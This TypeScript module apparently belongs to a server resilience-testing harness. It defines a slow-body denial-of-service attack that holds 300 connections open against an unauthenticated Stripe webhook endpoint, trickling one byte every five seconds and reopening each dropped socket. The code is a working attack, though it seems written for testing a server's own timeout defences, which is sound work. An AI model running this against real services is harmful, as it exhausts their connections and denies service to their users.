import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, say } from './attack.ts';

const BODIES = 300;
const EVERY_MS = 5000;

/** No session is needed for it. */
const BEGUN = 'POST /api/stripe/webhook HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n';

/** Bodies that come a byte at a time, and begin anew when they are cut. */
export const slowBodies: Attack = {
  name: '300 bodies of a byte each 5 s',
  // Longer than a request may take.
  seconds: 40,
  async prepare(target) {
    const open = () => say(target, BEGUN).resume();
    return async () => {
      const sockets = Array.from({ length: BODIES }, open);
      for (;;) {
        await sleep(EVERY_MS);
        for (const [n, socket] of sockets.entries()) {
          if (socket.writable) socket.write('x');
          else sockets[n] = open();
        }
      }
    };
  },
};
